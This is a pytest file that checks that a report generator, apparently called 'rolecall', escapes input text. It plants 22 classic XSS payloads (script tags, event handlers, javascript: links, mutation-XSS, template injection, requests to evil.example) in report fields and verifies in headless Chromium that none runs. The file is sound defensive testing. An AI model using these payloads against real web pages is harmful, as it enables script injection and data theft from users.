"""XSS suite: classic payloads in every place input text reaches a report, opened in real Chromium.

Payloads go into the subject's answers, the judge's evidence quote, indicators and reasoning, the
persona's name, sections and hypothesis statement, the instrument's names, labels and prompts,
and (through `rolecall score`) a transcript's item labels, respondents and questions. Each
payload, if it ever ran, would rename the page (``document.title``) or make a request.

Chromium loads each report.html twice: as written, and with its Content-Security-Policy removed
(so escaping alone must hold). All its traffic goes through a logging proxy on 127.0.0.1
(loopback included), so a request made by a payload, to loopback or outside, is seen. Then:
the title is unchanged, no payload request was made, and the rendered DOM holds no element or
attribute a payload could have introduced.

report.md: it is meant to be read rendered (GitHub, IDE previews, static-site tools), and not
all renderers sanitise HTML, so subject text in it must carry no raw HTML tag.
"""

from __future__ import annotations

import html
import json
import re
import subprocess
import threading
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml

from tests.report.chromium import CHROMIUM, needs_chromium
from tests.report.chromium import FLAGS as BASE_FLAGS

FLAGS = [
    *BASE_FLAGS,
    "--disable-extensions",
    "--virtual-time-budget=3000",  # let timers, onload and refreshes fire
]

#: ``{u}`` is the loopback logger's base URL, ``{n}`` the payload's number (marks its requests)
PAYLOADS = [
    "<script>document.title='PWNED';fetch('{u}/xss{n}')</script>",
    "<img src=x onerror=\"document.title='PWNED';this.src='{u}/xss{n}'\">",
    '<svg onload="document.title=\'PWNED\'"><image href="{u}/xss{n}"/></svg>',
    '<a href="javascript:document.title=\'PWNED\'" id="xss{n}">click</a>',
    '<iframe srcdoc="<script>parent.document.title=\'PWNED\'</script>" src="{u}/xss{n}"></iframe>',
    '<div style="background:url({u}/xss{n});width:expression(alert(1))">styled</div>',
    "</textarea><script>document.title='PWNED'</script><img src='{u}/xss{n}'>",
    "</title><script>document.title='PWNED'</script><img src='{u}/xss{n}'>",
    '" onmouseover="document.title=\'PWNED\'" autofocus onfocus="fetch(\'{u}/xss{n}\')" x="',
    "' onfocus='document.title=\"PWNED\"' autofocus data-x='{u}/xss{n}' x='",
    "<style>body{{background:url('{u}/xss{n}')}}</style>",
    '<meta http-equiv="refresh" content="0;url={u}/xss{n}">',
    "{{{{7777*7}}}} {{% print 8888*8 %}} ${{9999*9}} #{{6666*6}}",
    "[click me](javascript:document.title='PWNED') ![x]({u}/xss{n})",
    "&lt;script&gt;document.title='PWNED'&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003edocument.title='PWNED'\\u003c/script\\u003e \\x3cimg src=x\\x3e",
    '<object data="{u}/xss{n}"></object><embed src="{u}/xss{n}">',
    '<link rel="stylesheet" href="{u}/xss{n}"><base href="{u}/xss{n}/">',
    "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title='PWNED'\">",
    "--><script>document.title='PWNED'</script><!-- ]]><img src='{u}/xss{n}'>",
    '<img src="https://evil.example/xss{n}"><script src="http://evil.example/xss{n}.js"></script>',
    '<form action="{u}/xss{n}"><button formaction="javascript:alert(1)">go</button></form>',
]
#: what the template-injection payload would turn into if any text were rendered as a template
EVALUATED = ("54439", "71104", "89991", "39996")
BAD_TAGS = {"script", "iframe", "object", "embed", "link", "base", "form", "button", "img", "meta", "math"}


def payloads(base: str) -> list[str]:
    return [p.format(u=base, n=n) for n, p in enumerate(PAYLOADS)]


GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"


class _Log(BaseHTTPRequestHandler):
    requests: list[tuple[str, str, str]]

    def log_message(self, *args: object) -> None:
        pass

    def _any(self) -> None:
        self.requests.append((self.command, self.path, self.headers.get("Host", "")))
        self.send_response(200)  # a real image, so an onerror handler cannot loop
        self.send_header("Content-Type", "image/gif")
        self.send_header("Content-Length", str(len(GIF)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(GIF)

    do_GET = do_POST = do_HEAD = do_CONNECT = _any


@pytest.fixture
def logger():
    handler = type("Handler", (_Log,), {"requests": []})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", handler.requests
    server.shutdown()
    server.server_close()


def _payload_requests(requests, base: str) -> list:
    """Requests a payload made: to our logger's address, to evil.example, or marked xssN.

    (Chromium's own background calls to Google's update servers also reach the proxy; they
    are not the report's doing and are ignored.)
    """
    port = base.rsplit(":", 1)[1]
    return [r for r in requests if "xss" in r[1] or "evil.example" in r[1] + r[2] or port in r[2]]


def _chromium(tmp_path: Path, proxy: str, url: str) -> str:
    try:
        proc = _launch(tmp_path, proxy, url)
    except subprocess.TimeoutExpired:
        pytest.fail(f"Chromium never finished loading {url}: a payload may be navigating or looping")
    assert proc.returncode == 0, proc.stderr[-2000:]
    return proc.stdout


def _launch(tmp_path: Path, proxy: str, url: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [
            CHROMIUM,
            *FLAGS,
            f"--user-data-dir={tmp_path / 'profile'}",
            f"--proxy-server={proxy}",
            "--proxy-bypass-list=<-loopback>",
            "--dump-dom",
            url,
        ],
        capture_output=True,
        text=True,
        timeout=60,
    )


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.title = ""
        self._in_title = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        self._in_title = tag == "title"

    def handle_endtag(self, tag):
        self._in_title = False

    def handle_data(self, data):
        if self._in_title:
            self.title += data


def _parse(text: str) -> _Elements:
    p = _Elements()
    p.feed(text)
    return p


def _assert_inert_dom(dom: str, written: str) -> None:
    page, source = _parse(dom), _parse(written)
    assert page.title == source.title, "a script rewrote the title"
    assert "PWNED" not in page.title or page.title != "PWNED"
    for tag, attrs in page.tags:
        assert tag not in BAD_TAGS or (tag == "meta" and dict(attrs).get("http-equiv") != "refresh"), tag
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, value)
            assert name not in {"srcdoc", "formaction", "autofocus"}, (tag, name)
            v = (value or "").lower()
            assert "javascript:" not in v and "expression(" not in v, (tag, name, value)
            if name in {"href", "src", "data", "action", "xlink:href"}:
                assert v.startswith(("#", "data:")) or not v, (tag, name, value)
    styles = [t for t, _ in page.tags if t == "style"]
    assert len(styles) == 1, "a payload's <style> element made it into the page"
    for number in EVALUATED:
        assert number not in dom, f"{number}: text was rendered as a template"


def _run_with_payloads(write, run_scripted, mini_instrument: Path, base: str):
    p = payloads(base)
    answer = "I would start with a quick prototype. " + " ".join(p)
    evidence = p[1] + " " + p[2]  # verbatim in the answer: a verified key quote
    subject = write("xss-subject.json", json.dumps({"rules": [], "default": answer}))
    verdict = json.dumps(
        {"evidence": evidence, "indicators_seen": [p[8], p[9]], "reasoning": p[0] + p[13], "score": 5}
    )
    judge = write("xss-judge.json", json.dumps({"rules": [], "default": verdict}))
    persona = write(
        "xss-persona.md",
        "---\n"
        + json.dumps(
            {"hypothesis": {"instrument": "mini", "statement": p[0] + p[9], "expect": {"scope": ">=4"}}}
        )
        + "\n---\n"
        + f"# Research {p[7]} {p[8]}\n\n## Role\n{p[5]}\n{p[11]}\n\n## Personality\n- {p[13]}\n- {p[12]}\n",
    )
    inst = yaml.safe_load(mini_instrument.read_text())
    inst["name"] = "Mini " + p[6]
    inst["scale"]["low_label"] = p[1]
    inst["dimensions"][0]["name"] = "Scope " + p[2]
    inst["dimensions"][0]["anchors"][5] = "minimal proof " + p[10]
    inst["items"][2]["prompt"] = "Is it a success? " + p[3] + p[19]
    inst["items"][0]["positive_indicators"] = [p[4]]
    instrument = write("xss-mini.yaml", json.dumps(inst))
    return run_scripted(subject=subject, judge=judge, persona=persona, instrument=str(instrument)).run


def _score_with_payloads(write, mini_instrument: Path, tmp_path: Path, base: str):
    from rolecall.score_run import ScoreConfig, execute_score, start_score

    p = payloads(base)
    rows = [
        {"item": p[i][:60], "respondent": p[i + 1][:40], "question": p[i + 2], "answer": p[i + 3]}
        for i in range(0, len(p) - 3, 4)
    ]
    rows += [{"respondent": p[0][:40], "question": "How would you scope a recommender?", "answer": p[20]}]
    transcript = write("xss-answers.jsonl", "".join(json.dumps(r) + "\n" for r in rows))
    verdict = json.dumps({"evidence": p[3], "indicators_seen": [], "reasoning": p[15], "score": 2})
    judge = write("xss-judge2.json", json.dumps({"rules": [], "default": verdict}))
    cfg = ScoreConfig(
        source=transcript,
        instrument=str(mini_instrument),
        judges=[f"scripted:{judge}"],
        out=tmp_path / "runs",
    )
    run, inst, manifest = start_score(cfg)
    execute_score(run, inst, manifest, use_cache=False)
    return run


@pytest.mark.slow
@needs_chromium
@pytest.mark.parametrize("source", ["run", "score"])
def test_payloads_stay_inert_in_chromium(source, logger, write, run_scripted, mini_instrument, tmp_path):
    base, requests = logger
    if source == "run":
        run = _run_with_payloads(write, run_scripted, mini_instrument, base)
    else:
        run = _score_with_payloads(write, mini_instrument, tmp_path, base)
    written = run.report_html.read_text()
    assert "PWNED" in written  # the payloads did reach the report, escaped
    no_csp = run.path / "report-no-csp.html"
    no_csp.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", written))
    assert "Content-Security-Policy" not in no_csp.read_text()
    for page in (run.report_html, no_csp):
        dom = _chromium(tmp_path, base, page.resolve().as_uri())
        assert 'id="summary"' in dom or "<section" in dom, dom[:500]
        _assert_inert_dom(dom, written)
    assert _payload_requests(requests, base) == [], requests


def test_payloads_are_escaped_in_the_html_source(logger, write, run_scripted, mini_instrument):
    """Without a browser: no payload's markup appears unescaped in report.html."""
    base, _ = logger
    run = _run_with_payloads(write, run_scripted, mini_instrument, base)
    page = _parse(run.report_html.read_text())
    for tag, attrs in page.tags:
        assert tag not in BAD_TAGS or tag == "meta", tag
        assert not any(name.startswith("on") for name, _ in attrs), (tag, attrs)
    text = html.unescape(run.report_html.read_text())
    assert "{{7777*7}}" in text and "54439" not in text  # template syntax kept as text


def _raw_tags(md: str) -> list[str]:
    return re.findall(
        r"<\s*/?\s*(?:script|img|svg|iframe|style|meta|object|embed|link|base|form|a|math|title|textarea)\b[^>]*>?",
        md,
        re.I,
    )


@pytest.mark.parametrize("source", ["run", "score"])
def test_report_md_carries_no_raw_html_from_input(
    source, logger, write, run_scripted, mini_instrument, tmp_path
):
    base, _ = logger
    if source == "run":
        run = _run_with_payloads(write, run_scripted, mini_instrument, base)
    else:
        run = _score_with_payloads(write, mini_instrument, tmp_path, base)
    md = run.report_md.read_text()
    assert "PWNED" in md
    assert _raw_tags(md) == []


def test_report_md_escapes_answers_and_key_quotes(logger, write, mini_instrument, tmp_path):
    """What report.md does escape today: the answers-by-phase and key-quotes sections."""
    base, _ = logger
    md = _score_with_payloads(write, mini_instrument, tmp_path, base).report_md.read_text()
    answers = md[md.index("## 3. Answers by phase") : md.index("## 4.")]
    quotes = md[md.index("## 5. Key quotes") : md.index("## 6.")]
    assert "PWNED" in answers
    assert _raw_tags(answers + quotes) == [], _raw_tags(answers + quotes)[:5]
